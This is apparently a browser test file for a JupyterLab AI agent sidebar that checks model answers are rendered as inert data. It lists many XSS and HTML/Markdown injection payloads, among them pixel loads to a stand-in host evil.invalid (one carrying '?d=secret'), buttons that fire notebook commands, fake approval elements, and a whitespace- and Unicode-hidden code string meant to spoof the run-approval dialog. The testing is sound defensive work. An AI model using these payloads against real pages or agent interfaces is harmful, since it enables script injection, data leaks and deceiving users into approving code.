"""What a model says is data: no script of it runs, no address in it is asked for, no button of it looks like ours."""

from __future__ import annotations

from typing import Any

import pytest
from playwright.sync_api import expect

from tests.browser.sidebar_page import SidebarPage

EVIL = "https://evil.invalid"
RAW = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 2'>",
    f"<img src='{EVIL}/i.png'>",
    f'<img srcset="{EVIL}/s.png 1x" alt="a">',
    f"<picture><source srcset='{EVIL}/p.png'><img src='data:,'></picture>",
    "<svg onload='window.pwned = 3'><circle r=9></svg>",
    f"<svg><image href='{EVIL}/v.png' /></svg>",
    f"<svg><use xlink:href='{EVIL}/u.svg#x' /></svg>",
    f"<svg><style>@import '{EVIL}/c.css';</style></svg>",
    f"<style>body {{ background: url({EVIL}/b.png) }}</style>",
    f"<link rel=stylesheet href={EVIL}/l.css>",
    f"<link rel=prefetch href={EVIL}/f>",
    f"<iframe src={EVIL}></iframe>",
    "<iframe srcdoc='<script>parent.pwned = 4</script>'></iframe>",
    f"<object data={EVIL}/o></object>",
    f"<embed src={EVIL}/e>",
    f"<video src={EVIL}/v autoplay></video>",
    f"<audio src={EVIL}/a autoplay></audio>",
    f"<video poster={EVIL}/poster.png></video>",
    f"<form action={EVIL}><button>Run</button></form>",
    f"<form id=f action={EVIL}></form><input form=f type=submit value=Run>",
    f"<base href={EVIL}>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "<details open ontoggle='window.pwned = 5'>x</details>",
    "<body onpageshow='window.pwned = 6'>",
    "<marquee onstart='window.pwned = 7'>x</marquee>",
    "<input autofocus onfocus='window.pwned = 8'>",
    "<math><mtext><table><mglyph><style><img src=x onerror='window.pwned = 9'></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=10>'></noscript>",
    "<template><img src=x onerror='window.pwned = 11'></template>",
    "<button data-commandlinker-command='notebook:delete-cell' data-commandlinker-args='{}'>Run</button>",
    "<a href='#' data-commandlinker-command='apputils:reset'>here</a>",
    f"<div style='background: url({EVIL}/d.png); position: fixed; inset: 0'>x</div>",
    "<p class='jp-agent-approval'>Run this code in your kernel?</p>",
    "<form name=cookie></form><img name=body><a id=jupyter-agent-sidebar>x</a>",
    f"<a ping={EVIL}/ping href=https://ok.invalid>x</a>",
    f"<table background={EVIL}/t.png><tr><td>x</td></tr></table>",
    "<xmp><script>window.pwned = 12</script></xmp>",
    "<![CDATA[<script>window.pwned = 13</script>]]>",
    "<!--><img src=x onerror=window.pwned=14>-->",
    "<img/src=x/onerror=window.pwned=15>",
    "<IMG SRC=x OnErRoR=window.pwned=16>",
    "<details><summary><b>x</b></summary><img src=x onerror=window.pwned=17></details>",
]
MARKDOWN = [
    f"![pixel]({EVIL}/p.png?d=secret)",
    f"![pixel][ref]\n\n[ref]: {EVIL}/r.png",
    f"[![badge]({EVIL}/badge.svg)]({EVIL})",
    "![local](files/../api/contents?delete)",
    "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+)",
    "[click](javascript:window.pwned=20)",
    "[click](JaVaScRiPt:window.pwned=21)",
    "[click](java&#10;script:window.pwned=22)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:window.pwned=23)",
    "[click](//evil.invalid/x)",
    "[click](/api/shutdown)",
    "<javascript:window.pwned=24>",
    f"$\\href{{javascript:window.pwned=25}}{{x}}$ and $$\\style{{background:url({EVIL}/m.png)}}{{y}}$$",
    f"$\\require{{html}}\\class{{jp-agent-approval}}{{x}} \\cssId{{f}}{{y}} \\bbox[background:url({EVIL}/bb.png)]{{z}}$",
    f'$\\mmlToken{{mi}}[style="background:url({EVIL}/mml.png)"]{{x}}$',
    "$<img src=x onerror=window.pwned=26>$",
    f"```mermaid\ngraph TD\nA[<img src='{EVIL}/mm.png'>] --> B\nclick A href \"{EVIL}\"\n```",
    f"~~~~ mermaid\ngraph TD\nA[<img src='{EVIL}/m2.png'>]\n~~~~",
    "```html\n<script>window.pwned = 27</script>\n<img src=x onerror=window.pwned=28>\n```",
    '```"><img src=x onerror=window.pwned=29>\ncode\n```',
    "`<img src=x onerror=window.pwned=30>` and ``<script>window.pwned=31</script>``",
    "| <img src=x onerror=window.pwned=32> |\n|---|\n| <script>window.pwned=33</script> |",
    "# <img src=x onerror=window.pwned=34>\n\n- <svg/onload=window.pwned=35>\n  > <iframe src=javascript:window.pwned=36>",
    f"- [x] task <input onfocus=window.pwned=37 autofocus>\n- ![t]({EVIL}/task.png)",
    f"[^1]\n\n[^1]: ![foot]({EVIL}/foot.png)",
    f"\\<img src=x onerror=window.pwned=38> \\`<img src={EVIL}/tick.png>`",
    "`unclosed <img src=x onerror=window.pwned=39>\n\nnext <img src=x onerror=window.pwned=40>`",
    "    <img src=x onerror=window.pwned=41>\n\n<b>bold?</b>",
]
ANSWERS = [RAW[start : start + 12] for start in range(0, len(RAW), 12)]
ANSWERS += [MARKDOWN[start : start + 8] for start in range(0, len(MARKDOWN), 8)]

#: Elements and attributes that nothing but our own buttons may have.
_FORBIDDEN = """() => {
  const found = [];
  for (const text of document.querySelectorAll('.jp-agent-text')) {
    for (const element of text.querySelectorAll('*')) {
      const ours = element.closest('.jp-agent-code-bar, mjx-container');
      const tag = element.localName;
      if (!ours && /^(script|style|link|meta|base|iframe|object|embed|form|video|audio|source|picture|svg|math|body)$/.test(tag))
        found.push(element.outerHTML);
      if (tag === 'img' || (tag === 'button' && !ours) || (tag === 'input' && element.type !== 'checkbox'))
        found.push(element.outerHTML);
      for (const { name, value } of element.attributes) {
        if (/^on|^data-commandlinker|^srcset$|^ping$|^background$|^name$/.test(name)) found.push(`${tag} ${name}`);
        if (name === 'id' && !ours) found.push(`${tag} ${name}=${value}`);
        if (name === 'style' && (/url/i.test(value) || (!ours && value))) found.push(`${tag} ${name}=${value}`);
        if (/href$/.test(name) && !/^(https?:|mailto:|#mjx)/i.test(value)) found.push(`${tag} ${name}=${value}`);
        if (name === 'class' && !ours && /jp-agent-approval|jp-Dialog/.test(value)) found.push(`${tag} ${value}`);
      }
    }
  }
  return found;
}"""


@pytest.fixture(scope="module")
def script() -> list[Any] | None:
    separator = "\n\n---\n\n"
    return [
        *(
            {"match": rf"number {index}\b", "text": separator.join([*parts, "The end."])}
            for index, parts in enumerate(ANSWERS)
        ),
        {"match": "spoof", "calls": [{"name": "run_code", "arguments": {"code": SPOOF}}]},
        {"match": "spoof", "text": "Done."},
    ]


#: Looks like `safe = 1`: the rest hides behind spaces, a right-to-left override and invisible letters.
SPOOF = "safe = 1" + " " * 300 + ";danger = 2\n# \u202eesrever\u202c \u200b\U000e0041<b>not bold</b>"


def test_J5_J6_hostile_answers_run_nothing_and_load_nothing(sidebar: SidebarPage, notebook: str) -> None:
    sidebar.go(notebook)
    sidebar.open()
    for index in range(len(ANSWERS)):
        sidebar.ask(f"number {index}")
        expect(sidebar.wait_for_answer()).to_contain_text("The end.")
    assert sidebar.page.evaluate(_FORBIDDEN) == []
    assert sidebar.page.evaluate("window.pwned") is None
    # It is not hidden either: the user sees what was tried.
    expect(sidebar.panel).to_contain_text("<script>window.pwned = 1</script>")
    expect(sidebar.panel).to_contain_text("[pixel: not loaded]")


def test_J6_a_click_on_everything_that_can_be_clicked_runs_nothing(sidebar: SidebarPage, notebook: str) -> None:
    sidebar.go(notebook)
    sidebar.open()
    for index in range(len(ANSWERS)):
        sidebar.ask(f"number {index}")
        sidebar.wait_for_answer()
    cells = sidebar.cells.count()
    sidebar.page.context.route(f"{EVIL}/**", lambda route: route.abort())
    sidebar.page.evaluate("void (window.open = (...args) => void (window.opened = [...(window.opened || []), args]))")
    sidebar.page.evaluate("document.querySelectorAll('.jp-agent-text :not(button)').forEach(one => one.click?.())")
    assert sidebar.page.evaluate("window.pwned") is None
    assert sidebar.cells.count() == cells
    opened = sidebar.page.evaluate("window.opened || []")
    assert opened
    assert all(address.startswith("https://") and "noopener" in features for address, _, features in opened)


def test_J7_an_approval_shows_every_character_of_what_would_run(sidebar: SidebarPage, notebook: str) -> None:
    sidebar.go(notebook)
    sidebar.open()
    sidebar.ask("spoof me")
    code = sidebar.panel.get_by_role("region", name="Run this code").locator("pre")
    expect(code).to_contain_text(";danger = 2")
    expect(code).to_contain_text("⟨U+202E⟩esrever⟨U+202C⟩ ⟨U+200B⟩⟨U+E0041⟩<b>not bold</b>")
    assert code.evaluate("one => one.scrollWidth <= one.clientWidth")
    sidebar.panel.get_by_role("button", name="Deny").click()
    expect(sidebar.wait_for_answer()).to_contain_text("Done.")
